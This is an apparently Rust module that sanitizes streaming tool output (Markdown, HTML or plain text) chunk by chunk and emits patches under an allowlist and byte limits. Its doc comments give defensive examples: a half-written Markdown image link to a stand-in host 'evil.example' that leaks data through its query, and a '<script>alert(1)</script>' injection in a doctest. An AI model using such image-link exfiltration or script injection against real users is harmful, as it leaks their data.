//! Output that arrives: what came so far is shown, safe at each moment, and what is finished stays.
//!
//! A source cuts what came (`html::pieces`): HTML behind tags at which nothing can be repaired any more (`markup`), Markdown behind
//! blocks (`markdown::stream`). Each part is read, walked and written as a whole input is, behind the start tags that make its
//! place, so nothing is shown that the allowlist did not let through. What changes is a [`Patch`] (`patch`), and in the end the
//! whole is read once and what differs is patched: `end` comes to what [`sanitize_tool_output`](super::sanitize_tool_output)
//! returns, however the input was cut.
//!
//! *Threat:* half an address: `![](https://evil.example/?q=the` is a request for each letter that comes. *Rule:* an address
//! is read when what ends it has come (`markdown::stream::unfinished`, `markup`). *Evidence:* `tests/it/sanitizer/stream.rs`
//! cuts each hostile row at every character.

mod markup;
mod patch;
mod plain;
mod shown;
mod tree;

use serde::Serialize;

use super::options::SanitizeOptions;
#[cfg(feature = "markdown")]
use super::report::Removal;
#[cfg(feature = "markdown")]
use super::tool_output::SanitizeReport;
use crate::error::{Error, ErrorKind};
#[cfg(feature = "markdown")]
use crate::html::pieces::Source;
#[cfg(feature = "markdown")]
use crate::markdown::stream::MarkdownSource;
pub(crate) use markup::MarkupSource;
pub use patch::Change;
pub(crate) use plain::PlainSource;
#[cfg(target_arch = "wasm32")]
pub(crate) use shown::Outcome;
pub(crate) use shown::Shown;

/// What becomes of markup that is not finished.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
#[non_exhaustive]
pub enum Unfinished {
    /// It is shown as it will probably end.
    #[default]
    Complete,
    /// It waits until it is.
    Hold,
}

/// What arrives.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
#[non_exhaustive]
pub enum StreamText {
    /// CommonMark and GFM.
    #[default]
    Markdown,
    /// HTML.
    Html,
    /// Text, which stays text.
    Plain,
}

/// How a stream is read.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct StreamOptions {
    /// What arrives.
    pub text: StreamText,
    /// What becomes of markup that is not finished.
    pub unfinished: Unfinished,
}

/// What makes what was shown into what is to be shown, change by change.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize)]
pub struct Patch {
    /// In this order.
    pub changes: Vec<Change>,
}

/// A stream, natively. It has what is shown as a tree of its own.
///
/// ```
/// use mcp_cordon::sanitizer::{PatchStream, SanitizeOptions, StreamOptions};
///
/// let mut stream = PatchStream::new(SanitizeOptions::default(), StreamOptions::default());
/// stream.append("Half a **wo")?;
/// assert_eq!(stream.html(), "<p>Half a <strong>wo</strong></p>\n");
/// stream.append("rd** and <script>alert(1)</script>")?;
/// let (_, report) = stream.end()?;
/// assert_eq!(report.html, "<p>Half a <strong>word</strong> and </p>\n");
/// # Ok::<(), mcp_cordon::error::Error>(())
/// ```
#[cfg(feature = "markdown")]
#[derive(Debug)]
pub struct PatchStream<'o> {
    options: SanitizeOptions<'o>,
    source: Box<dyn Source>,
    shown: Shown,
    bytes: usize,
    is_over: bool,
}

#[cfg(feature = "markdown")]
impl<'o> PatchStream<'o> {
    /// Nothing has come yet.
    pub fn new(options: SanitizeOptions<'o>, StreamOptions { text, unfinished }: StreamOptions) -> Self {
        let holds = unfinished == Unfinished::Hold;
        let source: Box<dyn Source> = match text {
            StreamText::Markdown => Box::new(MarkdownSource::new(options.dialect(), holds)),
            StreamText::Html => Box::new(MarkupSource::new(holds)),
            StreamText::Plain => Box::new(PlainSource::new(options.invisible_text)),
        };
        Self { options, source, shown: Shown::default(), bytes: 0, is_over: false }
    }

    /// Takes what comes.
    ///
    /// # Errors
    /// As [`sanitize_tool_output`](super::sanitize_tool_output), for the sum of what came. What is shown stays, and all that
    /// comes later is refused.
    pub fn append(&mut self, chunk: &str) -> Result<Patch, Error> {
        self.check(chunk.len())?;
        let changes = self.take(chunk).inspect_err(|_| self.is_over = true)?;
        Ok(Patch { changes })
    }

    fn take(&mut self, chunk: &str) -> Result<Vec<Change>, Error> {
        match self.source.take(chunk) {
            Some(step) => self.shown.follow(&mut *self.source, &step, &self.options),
            None => Ok(Vec::new()),
        }
    }

    fn check(&mut self, more: usize) -> Result<(), Error> {
        if self.is_over {
            return Err(over());
        }
        self.options.check()?;
        self.bytes = self.bytes.saturating_add(more);
        check_bytes(self.bytes, &self.options).inspect_err(|_| self.is_over = true)
    }

    /// Settles: what is shown then is what the whole input comes to.
    ///
    /// # Errors
    /// As [`PatchStream::append`].
    pub fn end(&mut self) -> Result<(Patch, SanitizeReport), Error> {
        self.check(0)?;
        self.is_over = true;
        let (changes, report) = self.shown.end(&self.source.whole(), &self.options)?;
        Ok((Patch { changes }, report))
    }

    /// What is shown now, as markup.
    pub fn html(&self) -> String {
        self.shown.html()
    }

    /// What was removed since this was asked last, once it was certain.
    pub fn take_removed(&mut self) -> Vec<Removal> {
        self.shown.take_removed()
    }

    /// Bytes of markup that were read for what is shown, the same ones again included.
    #[doc(hidden)]
    pub fn read(&self) -> usize {
        self.shown.read
    }
}

/// # Errors
/// [`ErrorKind::LimitBytes`].
pub(crate) fn check_bytes(bytes: usize, options: &SanitizeOptions<'_>) -> Result<(), Error> {
    let most = options.limits.bytes;
    if bytes > most {
        let message = format!("options.limits.bytes is {most} and the stream has {bytes}");
        return Err(Error::new(ErrorKind::LimitBytes, message));
    }
    Ok(())
}

pub(crate) fn over() -> Error {
    Error::new(ErrorKind::InvalidInput, "chunk: the stream is over: it ended, was aborted, or passed a limit")
}
